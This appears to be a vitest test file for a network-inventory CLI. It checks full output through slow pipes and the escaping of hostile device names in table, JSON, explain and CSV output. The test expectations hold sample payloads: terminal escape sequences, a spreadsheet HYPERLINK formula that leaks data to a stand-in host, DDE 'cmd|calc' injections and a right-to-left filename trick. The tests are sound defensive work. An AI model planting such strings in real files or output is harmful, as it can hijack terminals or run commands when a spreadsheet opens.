/**
 * What the `auscult` executable (the built dist/) prints: everything, through real pipes read slowly,
 * and nothing a terminal or a spreadsheet would run, on hostile-names.pcap (names from lldpd and
 * avahi-daemon carrying escape sequences and formulas, test-fixtures/make-hostile-fixtures.sh).
 */
import { spawn, spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hasControls } from '../output/escape.js';
import { writeArpAnnouncements } from '../testing/generated-captures.js';

const root = join(import.meta.dirname, '..', '..');
const cli = join(root, 'dist', 'agent', 'cli.js');
const hostile = join(root, 'test-fixtures', 'hostile-names.pcap');
const HOSTS = 3000;
let work: string;
let manyDb: string;
let hostileDb: string;

function run(args: string[]) {
  const r = spawnSync(process.execPath, [cli, ...args], { encoding: 'utf8', env: { ...process.env, AUSCULT_LOG_LEVEL: 'warn' } });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

/** Run the CLI with stdout to a pipe that this test reads slowly: nothing for 300 ms, then a chunk every few ms. */
function runSlowlyRead(args: string[]): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [cli, ...args], { stdio: ['ignore', 'pipe', 'pipe'], env: { ...process.env, AUSCULT_LOG_LEVEL: 'warn' } });
    const chunks: Buffer[] = [];
    let stderr = '';
    child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
    // The pipe (64 KiB) fills up before the first read: the child must wait for us, not exit.
    child.stdout.pause();
    child.stdout.on('data', (chunk: Buffer) => {
      chunks.push(chunk);
      child.stdout.pause();
      setTimeout(() => child.stdout.resume(), 2);
    });
    setTimeout(() => child.stdout.resume(), 300);
    let code: number | null = null;
    let pending = 2;
    const done = (): void => {
      if (--pending === 0) resolve({ code, stdout: Buffer.concat(chunks).toString('utf8'), stderr });
    };
    child.on('exit', (c) => {
      code = c;
      done();
    });
    child.stdout.on('end', done);
  });
}

/** No byte a terminal would act on, besides the line ends. */
function terminalSafe(text: string): boolean {
  return !hasControls(text.replace(/\n/g, ''));
}

beforeAll(() => {
  if (!existsSync(cli)) throw new Error(`${cli} is missing: run \`npm run build\` (npm test does it)`);
  work = mkdtempSync(join(tmpdir(), 'auscult-output-'));
  const many = join(work, 'many.pcap');
  writeArpAnnouncements(many, HOSTS);
  manyDb = join(work, 'many.db');
  const r = run(['read', many, '--db', manyDb, '--no-progress']);
  if (r.code !== 0) throw new Error(r.stderr);
  hostileDb = join(work, 'hostile.db');
  const h = run(['read', hostile, '--db', hostileDb, '--no-progress']);
  if (h.code !== 0) throw new Error(h.stderr);
});
afterAll(() => rmSync(work, { recursive: true, force: true }));

describe(`all the output through a pipe read slowly (${HOSTS} devices)`, () => {
  it('devices --format json: the whole array', async () => {
    const r = await runSlowlyRead(['devices', '--db', manyDb, '--format', 'json']);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout.length).toBeGreaterThan(1024 * 1024);
    const devices = JSON.parse(r.stdout) as { id: number }[];
    expect(devices.map((d) => d.id)).toEqual(Array.from({ length: HOSTS }, (_, i) => i + 1));
  });

  it('devices --format csv: every line', async () => {
    const r = await runSlowlyRead(['devices', '--db', manyDb, '--format', 'csv']);
    expect(r.code, r.stderr).toBe(0);
    const lines = r.stdout.split('\n');
    expect(lines.pop()).toBe('');
    expect(lines).toHaveLength(HOSTS + 1);
    expect(lines[HOSTS]).toMatch(new RegExp(`^${HOSTS},02:00:00:00:0b:b8,`));
  });

  it('devices (table): to its last line', async () => {
    const r = await runSlowlyRead(['devices', '--db', manyDb]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout.endsWith(`\n${HOSTS} device(s)\n`)).toBe(true);
  });

  it('a reader that stops early (| head -1) ends the command quietly, exit 0', () => {
    const r = spawnSync('bash', ['-o', 'pipefail', '-c', `"${process.execPath}" "${cli}" devices --db "${manyDb}" --format csv | head -1`], { encoding: 'utf8' });
    expect(r.status, r.stderr).toBe(0);
    expect(r.stdout).toMatch(/^id,mac,/);
    expect(r.stderr).toBe('');
  });
});

describe('hostile names from real lldpd and avahi-daemon', () => {
  it('the database and --format json keep them exactly (JSON escapes what a terminal would act on)', () => {
    const r = run(['devices', '--db', hostileDb, '--format', 'json']);
    expect(r.code, r.stderr).toBe(0);
    expect(terminalSafe(r.stdout)).toBe(true);
    const names = (JSON.parse(r.stdout) as { hostnames: { name: string }[] }[]).flatMap((d) => d.hostnames.map((h) => h.name));
    expect(names).toContain('=HYPERLINK("http://evil.example/?leak="&A1,"Click me")');
    expect(names).toContain('\t-2+3+cmd|\' /C calc\'!A0');
    expect(names).toContain('ws-nurse\x1b[2J\x1b]0;owned\x07\u009b31m\u202eexe-gpj');
    expect(names.some((n) => n.startsWith('ward3-sw\x1b[2J\x1b[3J\x1b]0;owned\x07\x1b]8;;http://evil.example/\x1b\\click-me'))).toBe(true);
  });

  it('the table shows every control character as a visible escape', () => {
    const r = run(['devices', '--db', hostileDb]);
    expect(r.code, r.stderr).toBe(0);
    expect(terminalSafe(r.stdout)).toBe(true);
    expect(r.stdout).toContain('ward3-sw\\x1b[2J\\x1b[3J');
    expect(r.stdout).toContain('ws-nurse\\x1b[2J\\x1b]0;o');
    expect(r.stdout).toContain('\\x09-2+3+cmd');
  });

  it('explain escapes the names, evidence and description', () => {
    // The switch (lldpd) and the workstation (avahi-daemon) whose names carry escape sequences.
    const all = ['00:1a:a1:2f:00:02', '00:1b:21:2f:00:50'].map((mac) => run(['explain', mac, '--db', hostileDb])).map((r) => {
      expect(r.code, r.stderr).toBe(0);
      return r.stdout;
    }).join('\n');
    expect(terminalSafe(all)).toBe(true);
    expect(all).toContain('\\u001b]8;;http://evil.example/');
    expect(all).toContain('\\u009b31m\\u202etxt.exe');
    expect(all).toContain('Example switch\\u001b[1A\\u001b[2K\\u0007 firmware 1.0');
    expect(all).toContain('ws-nurse\\u001b[2J');
  });

  it('CSV: no cell a spreadsheet would run, no control character, the text back after the apostrophe', () => {
    const r = run(['devices', '--db', hostileDb, '--format', 'csv']);
    expect(r.code, r.stderr).toBe(0);
    expect(hasControls(r.stdout.replace(/\n/g, ''))).toBe(false);
    const python = spawnSync('python3', ['-c', 'import csv, json, sys; print(json.dumps(list(csv.reader(sys.stdin))))'], { input: r.stdout, encoding: 'utf8' });
    if (python.status !== 0) return void console.warn('python3 not found: CSV cells not parsed');
    const rows = JSON.parse(python.stdout) as string[][];
    const hostnames = rows[0].indexOf('hostnames');
    for (const row of rows.slice(1)) for (const cell of row) expect(cell, cell).toMatch(/^(?:'|[^=+\-@])|^$|^-?\d/);
    const names = rows.slice(1).map((row) => row[hostnames]);
    expect(names).toContain(`'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`);
    expect(names).toContain("'+cmd|' /C calc'!A0");
    expect(names).toContain("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(names).toContain("'-2+3+cmd|' /C calc'!A0"); // the TAB before it removed, then neutralised
  });
});
